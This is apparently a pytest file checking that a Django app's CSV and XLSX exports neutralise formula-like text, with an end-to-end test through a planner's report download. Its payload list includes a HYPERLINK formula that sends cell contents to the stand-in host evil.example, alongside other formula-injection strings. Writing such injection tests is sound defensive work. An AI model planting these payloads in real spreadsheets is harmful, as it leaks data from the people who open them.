"""No cell of a CSV or XLSX export can run as a formula on a planner's machine: text that
starts with =, +, -, @, tab or carriage return is neutralised (an apostrophe in CSV, a quoted
text cell in XLSX), while numbers — negative amounts included — stay numbers."""
from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.test import Client

from consult.models import Support
from core.spreadsheets import neutralised
from reports.exports import export_table
from tests.factories import ParticipantFactory

ATTACKS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+1+1", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_like_text_is_neutralised(text):
    assert neutralised(text) == "'" + text


@pytest.mark.parametrize("value", ["", "Centro", " =1+1", "'=1+1", "a=b", "1-2", "<10",
                                   -1500, -0.5, 0, None])
def test_everything_else_is_left_as_it_is(value):
    assert neutralised(value) == value


def a_table(texts: list[str]) -> dict:
    return {"columns": [{"key": "district", "type": "text"}, {"key": "amount", "type": "money"}],
            "rows": [[text, -1500.5] for text in texts]}


def test_a_csv_export_neutralises_text_and_keeps_negative_numbers():
    content = export_table(a_table(ATTACKS + ["Norte"]), name="t", fmt="csv").content
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert [row[0] for row in rows[1:]] == ["'" + text for text in ATTACKS] + ["Norte"]
    assert {row[1] for row in rows[1:]} == {"-1500.5"}


def test_an_xlsx_export_has_no_formula_and_keeps_the_exact_text():
    content = export_table(a_table(ATTACKS + ["Norte"]), name="t", fmt="xlsx").content
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = [row[0] for row in sheet.iter_rows(min_row=2)]
    # XML keeps no lone carriage return: it reads back as a line feed, still quoted text.
    assert [cell.value for cell in texts] == [t.replace("\r", "\n") for t in ATTACKS] + ["Norte"]
    assert all(cell.quotePrefix for cell in texts[:-1]) and not texts[-1].quotePrefix
    amounts = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert {(cell.data_type, cell.value) for cell in amounts} == {("n", -1500.5)}


@pytest.mark.django_db
def test_a_participants_district_reaches_the_planners_exports_as_text(closed, people):
    """End to end: ten supporters (a cell large enough to be shown) give a formula as their
    district."""
    consultation = closed.consultation
    attack = ATTACKS[0]
    Support.objects.bulk_create(
        Support(participant=ParticipantFactory(city=closed.city, district=attack),
                proposal=closed.proposals["a"]) for _ in range(10))
    client = Client()
    client.force_login(people.planner)
    base = f"/reports/consultation/{consultation.pk}/tables/inclusion_district"
    text = client.get(f"{base}.csv").content.decode("utf-8-sig")
    assert f"'{attack}" in text.replace('""', '"')
    sheet = openpyxl.load_workbook(io.BytesIO(client.get(f"{base}.xlsx").content)).active
    values = {cell.value: cell for row in sheet.iter_rows() for cell in row}
    assert attack in values and values[attack].data_type == "s"
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
